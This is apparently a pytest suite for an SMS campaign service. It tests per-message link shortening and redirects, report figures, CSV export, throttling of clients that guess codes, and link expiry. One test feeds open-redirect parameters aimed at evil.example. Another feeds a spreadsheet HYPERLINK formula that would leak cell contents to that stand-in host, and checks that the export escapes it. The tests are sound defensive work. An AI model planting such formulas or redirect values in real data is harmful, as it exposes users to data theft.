"""Link tracking and reports on SQLite and PostgreSQL: a known campaign (sends, provider
refusals, exclusions, delivery outcomes, human, repeated and bot clicks, an opt-out), then
every number of the campaign report, the surface report and the CSV."""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import insert

from smsbridge.app import create_app
from smsbridge.config import Settings
from smsbridge.container import Services, build_services
from smsbridge.delivery.worker import Worker, WorkerConfig
from smsbridge.domain.links import CODE_LENGTH
from smsbridge.domain.messages import MessageStatus
from smsbridge.storage.tables import suppressions
from tests.clock import FakeClock
from tests.conftest import ADMIN_KEY
from tests.mock_provider import MockProvider, Recorded, Reply

SENDER = "+15550001111"
LINK_BASE = "https://go.acme.example"
HUMAN = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Mobile/15E148 Safari/604.1"
PREVIEW_BOT = "facebookexternalhit/1.1"


@dataclass
class Scenario:
    services: Services
    clock: FakeClock
    http: httpx.AsyncClient
    surface_id: str
    campaign_id: str
    by_profile: dict[str, dict[str, Any]]  # profile id → message view


def phone(n: int) -> str:
    return f"+3361234{n:04d}"


async def _suppress(services: Services, number: str, at: Any) -> None:
    async with services.db.transaction() as conn:
        await conn.execute(
            insert(suppressions).values(
                sender=SENDER, phone=number, source="keyword", keyword="STOP", created_at=at
            )
        )


@pytest.fixture
async def scenario(settings: Settings, mock_provider: MockProvider) -> AsyncIterator[Scenario]:
    clock = FakeClock()
    services = await build_services(settings, clock=clock)

    def respond(request: Recorded) -> Reply:
        to = json.loads(request.body)["to"]
        if to in (phone(0), phone(1)):  # the provider refuses two numbers
            return Reply(400, {"error": "invalid destination"})
        return Reply(200, {"id": f"prov-{to[-4:]}"})

    mock_provider.responder = respond
    credential = await services.credentials.create(
        {
            "name": "mock",
            "provider_url": f"{mock_provider.url}/send",
            "auth": {"type": "bearer", "token": "tok-report-112233"},
            "payload": {"to": "{{toNumber}}", "from": "{{fromNumber}}", "text": "{{message}}"},
            "response": {"message_id_path": "$.id"},
        }
    )
    surface = await services.surfaces.create(
        {
            "name": "promo",
            "credential_id": credential.id,
            "sender": SENDER,
            "link_tracking": {"enabled": True, "base_url": LINK_BASE},
        }
    )
    app = create_app(settings, prebuilt=services)
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app),
            base_url="http://testserver",
            headers={"Authorization": f"Bearer {ADMIN_KEY}"},
        ) as http,
    ):
        people = [
            {"external_id": f"p{n}", "phone": phone(n), "attributes": {"firstName": f"N{n}"}}
            for n in range(10)
        ]
        people[9]["phone"] = phone(8)  # p9 shares p8's number: excluded as a duplicate
        body = "".join(json.dumps(p) + "\n" for p in people)
        imported = await http.post(
            "/api/v1/profiles/import",
            content=body.encode(),
            headers={"Content-Type": "application/x-ndjson"},
        )
        assert imported.json()["imported"] == 10
        await _suppress(services, phone(7), clock())  # p7 opted out before the campaign

        created = await http.post(
            "/api/v1/campaigns",
            json={
                "name": "spring",
                "surface_id": surface.id,
                "body": "Hi {{ profile.firstName }}: https://shop.example/sale?x=1.",
                "audience": {"all": True},
            },
        )
        campaign_id = created.json()["id"]
        await http.post(f"/api/v1/campaigns/{campaign_id}/launch")
        await services.new_campaign_runner().run_once()
        clock.advance(30)
        worker = Worker(
            db=services.db,
            credentials=services.credentials,
            gateway=services.gateway,
            limiter=services.limiter,
            clock=clock,
            config=WorkerConfig(public_url=settings.public_url),
            rng=random.Random(1),
        )
        await worker.drain()
        listed = await http.get(
            "/api/v1/messages", params={"campaign_id": campaign_id, "limit": 100}
        )
        by_profile = {m["profile_id"]: m for m in listed.json()["items"]}
        try:
            yield Scenario(services, clock, http, surface.id, campaign_id, by_profile)
        finally:
            await services.close()


def _code(message: dict[str, Any]) -> str:
    marker = f"{LINK_BASE}/l/"
    start = message["body"].index(marker) + len(marker)
    return str(message["body"][start : start + CODE_LENGTH])


async def _click(s: Scenario, profile: str, agent: str, **params: str) -> httpx.Response:
    return await s.http.get(
        f"/l/{_code(s.by_profile[profile])}", headers={"User-Agent": agent}, params=params
    )


async def test_links_are_shortened_per_message_and_redirect_to_the_stored_url(
    scenario: Scenario,
) -> None:
    s = scenario
    bodies = [m["body"] for m in s.by_profile.values()]
    assert all(b.startswith("Hi N") and f"{LINK_BASE}/l/" in b and b.endswith(".") for b in bodies)
    assert len({_code(m) for m in s.by_profile.values()}) == len(bodies)  # one code per message
    response = await _click(s, "p2", HUMAN, url="https://evil.example", next="https://evil.example")
    assert response.status_code == 302
    assert response.headers["location"] == "https://shop.example/sale?x=1"
    unknown = await s.http.get("/l/ZZZZZZZZ")
    assert unknown.status_code == 404
    assert "text/html" in unknown.headers["content-type"]
    assert (await s.http.get("/l/not-a-code!")).status_code == 404


async def test_every_number_of_the_reports_and_the_csv(scenario: Scenario) -> None:
    s = scenario
    messages = s.services.messages
    assert set(s.by_profile) == {"p0", "p1", "p2", "p3", "p4", "p5", "p6", "p8"}
    s.clock.advance(60)
    for profile in ("p2", "p3", "p4"):
        assert await messages.record_delivery(s.by_profile[profile]["id"], MessageStatus.DELIVERED)
    assert await messages.record_delivery(
        s.by_profile["p5"]["id"], MessageStatus.UNDELIVERED, error="30005 unknown handset"
    )
    # A replayed report and a late contradictory one change nothing.
    assert not await messages.record_delivery(s.by_profile["p2"]["id"], MessageStatus.DELIVERED)
    assert not await messages.record_delivery(s.by_profile["p3"]["id"], MessageStatus.UNDELIVERED)
    # A failed message cannot be "delivered" afterwards either.
    assert not await messages.record_delivery(s.by_profile["p0"]["id"], MessageStatus.DELIVERED)

    s.clock.advance(60)
    for profile, agent in (("p2", HUMAN), ("p2", HUMAN), ("p3", HUMAN), ("p4", PREVIEW_BOT)):
        assert (await _click(s, profile, agent)).status_code == 302
    await _suppress(s.services, phone(6), s.clock())  # p6 opts out after receiving it

    segments = sum(s.by_profile[p]["segments"] for p in ("p2", "p3", "p4", "p5", "p6", "p8"))
    expected = {
        "targeted": 10,
        "excluded": 2,
        "excluded_reasons": {"opted_out": 1, "duplicate": 1},
        "sent": 6,
        "delivered": 3,
        "bounced": 1,
        "errors": 2,
        "error_reasons": {"provider refused the request (400)": 2},
        "pending": 0,
        "suppressed": 0,
        "cancelled": 0,
        "clicks": 3,
        "unique_clicks": 2,
        "bot_clicks": 1,
        "opt_outs": 1,
        "segments": segments,
        "rates": {"delivery": 0.5, "bounce": 0.1667, "error": 0.25, "click": 0.3333},
    }
    report = (await s.http.get(f"/api/v1/campaigns/{s.campaign_id}/report")).json()
    assert {k: report[k] for k in expected} == expected
    assert report["status"] == "running" or report["status"] == "completed"
    assert report["bucket"] == "minute"
    timeline = report["timeline"]
    assert sum(p["sent"] for p in timeline) == 6
    assert sum(p["delivered"] for p in timeline) == 3
    assert sum(p["clicks"] for p in timeline) == 3
    by_minute = {p["at"]: p for p in timeline}
    start = s.clock.now - timedelta(seconds=120)
    assert by_minute[start.strftime("%Y-%m-%dT%H:%M:00Z")]["sent"] == 6
    assert (
        by_minute[(start + timedelta(seconds=60)).strftime("%Y-%m-%dT%H:%M:00Z")]["delivered"] == 3
    )
    assert by_minute[s.clock.now.strftime("%Y-%m-%dT%H:%M:00Z")]["clicks"] == 3

    window = {
        "from": (s.clock.now - timedelta(hours=1)).isoformat(),
        "to": (s.clock.now + timedelta(minutes=1)).isoformat(),
    }
    surface = (await s.http.get(f"/api/v1/surfaces/{s.surface_id}/report", params=window)).json()
    assert {k: surface[k] for k in expected} == expected
    earlier = {
        "from": (s.clock.now - timedelta(days=3)).isoformat(),
        "to": (s.clock.now - timedelta(days=2)).isoformat(),
    }
    empty = (await s.http.get(f"/api/v1/surfaces/{s.surface_id}/report", params=earlier)).json()
    assert (empty["targeted"], empty["sent"], empty["clicks"], empty["bucket"]) == (0, 0, 0, "hour")
    # ``to`` is excluded: a window ending on the hour has no bucket for the hour it ends on
    on_the_hour = s.clock.now.replace(minute=0, second=0, microsecond=0) - timedelta(days=2)
    exact = {"from": (on_the_hour - timedelta(hours=5)).isoformat(), "to": on_the_hour.isoformat()}
    hours = (await s.http.get(f"/api/v1/surfaces/{s.surface_id}/report", params=exact)).json()
    assert [p["at"] for p in hours["timeline"]] == [
        (on_the_hour - timedelta(hours=h)).strftime("%Y-%m-%dT%H:00:00Z") for h in range(5, 0, -1)
    ]

    response = await s.http.get(f"/api/v1/campaigns/{s.campaign_id}/report.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 8
    by_id = {r["id"]: r for r in rows}
    wanted = {
        "p0": ("failed", 0, ""),
        "p1": ("failed", 0, ""),
        "p2": ("delivered", 2, "prov-0002"),
        "p3": ("delivered", 1, "prov-0003"),
        "p4": ("delivered", 0, "prov-0004"),
        "p5": ("undelivered", 0, "prov-0005"),
        "p6": ("sent", 0, "prov-0006"),
        "p8": ("sent", 0, "prov-0008"),
    }
    for profile, (status, clicks, provider_id) in wanted.items():
        row = by_id[s.by_profile[profile]["id"]]
        assert (row["status"], int(row["clicks"]), row["provider_message_id"]) == (
            status,
            clicks,
            provider_id,
        )
        assert row["to"] == s.by_profile[profile]["to"]
    assert by_id[s.by_profile["p2"]["id"]]["delivered_at"].endswith("Z")
    assert by_id[s.by_profile["p5"]["id"]]["last_error"] == "30005 unknown handset"
    surface_csv = await s.http.get(f"/api/v1/surfaces/{s.surface_id}/report.csv", params=window)
    assert surface_csv.text == response.text


async def test_report_errors(scenario: Scenario) -> None:
    s = scenario
    assert (await s.http.get("/api/v1/campaigns/cmp_nope/report")).status_code == 404
    assert (await s.http.get("/api/v1/campaigns/cmp_nope/report.csv")).status_code == 404
    assert (await s.http.get("/api/v1/surfaces/srf_nope/report")).status_code == 404
    backwards = await s.http.get(
        f"/api/v1/surfaces/{s.surface_id}/report",
        params={"from": "2026-03-02T00:00:00Z", "to": "2026-03-01T00:00:00Z"},
    )
    assert backwards.status_code == 422
    assert backwards.json()["errors"][0]["field"] == "from"
    naive = await s.http.get(
        f"/api/v1/surfaces/{s.surface_id}/report", params={"from": "2026-03-01T00:00:00"}
    )
    assert naive.status_code == 422


@pytest.mark.parametrize("kind", ["campaign", "surface"])
async def test_csv_pages_follow_the_index_without_gaps_or_repeats(
    scenario: Scenario, kind: str
) -> None:
    from smsbridge.storage.reports import Scope, message_rows

    s = scenario
    scope = (
        Scope(campaign_id=s.campaign_id)
        if kind == "campaign"
        else Scope(
            surface_id=s.surface_id,
            start=s.clock.now - timedelta(hours=1),
            end=s.clock.now + timedelta(hours=1),
        )
    )
    seen = [row[0] async for page in message_rows(s.services.db, scope, page=3) for row in page]
    assert sorted(seen) == sorted(m["id"] for m in s.by_profile.values())
    assert len(seen) == len(set(seen)) == 8


async def test_preview_shows_the_shortened_text(scenario: Scenario) -> None:
    s = scenario
    long_url = (
        "https://shop.example/a/very/long/path/to/a/product?utm_source=sms&utm_campaign=spring"
    )
    response = await s.http.post(
        "/api/v1/messages/preview",
        json={"surface_id": s.surface_id, "to": "+33612345678", "body": f"See {long_url} now"},
    )
    preview = response.json()
    assert preview["text"].startswith(f"See {LINK_BASE}/l/")
    assert preview["text"].endswith(" now")
    assert "shop.example" not in preview["text"]
    assert preview["characters"] == len("See ") + len(LINK_BASE) + len("/l/") + CODE_LENGTH + len(
        " now"
    )


async def test_csv_cells_from_outside_cannot_be_formulas(scenario: Scenario) -> None:
    s = scenario
    formula = '=HYPERLINK("https://evil.example/?"&A1,"details")'
    message = s.by_profile["p5"]
    assert await s.services.messages.record_delivery(
        message["id"], MessageStatus.UNDELIVERED, error=formula
    )
    response = await s.http.get(f"/api/v1/campaigns/{s.campaign_id}/report.csv")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.text))}
    assert rows[message["id"]]["last_error"] == "'" + formula
    assert rows[message["id"]]["to"] == message["to"]  # an E.164 number is left as it is


async def test_a_client_guessing_codes_is_slowed_down_and_others_are_not(
    scenario: Scenario, settings: Settings
) -> None:
    s = scenario
    budget = settings.link_misses_per_minute
    for n in range(budget):
        assert (await s.http.get(f"/l/Guess{n:07d}")).status_code == 404
    refused = await s.http.get("/l/GuessAgain00")
    assert refused.status_code == 429
    assert 1 <= int(refused.headers["retry-after"]) <= 60
    # While blocked, even a real code is refused to this client (no lookup is made) ...
    assert (await _click(s, "p2", HUMAN)).status_code == 429
    # ... while another client follows it, and a bad code costs it only its own budget.
    app = create_app(settings, prebuilt=s.services)
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app, client=("203.0.113.9", 40000)),
            base_url="http://testserver",
        ) as other,
    ):
        assert (await other.get(f"/l/{_code(s.by_profile['p2'])}")).status_code == 302
        assert (await other.get("/l/GuessOther00")).status_code == 404


async def test_links_expire_after_their_surfaces_lifetime(scenario: Scenario) -> None:
    s = scenario
    code = _code(s.by_profile["p3"])
    assert (await s.http.get(f"/l/{code}")).status_code == 302
    changed = await s.http.patch(
        f"/api/v1/surfaces/{s.surface_id}", json={"link_tracking": {"expire_after_days": 2}}
    )
    assert changed.status_code == 200, changed.text
    assert changed.json()["link_tracking"]["expire_after_days"] == 2
    assert changed.json()["link_tracking"]["enabled"] is True
    s.clock.advance(2 * 86400 - 120)
    assert (await s.http.get(f"/l/{code}")).status_code == 302  # cached lifetimes: 30 s
    s.clock.advance(180)
    expired = await s.http.get(f"/l/{code}")
    assert expired.status_code == 404
    bad = await s.http.patch(
        f"/api/v1/surfaces/{s.surface_id}", json={"link_tracking": {"expire_after_days": 0}}
    )
    assert bad.status_code == 422
    assert bad.json()["errors"][0]["field"] == "link_tracking.expire_after_days"
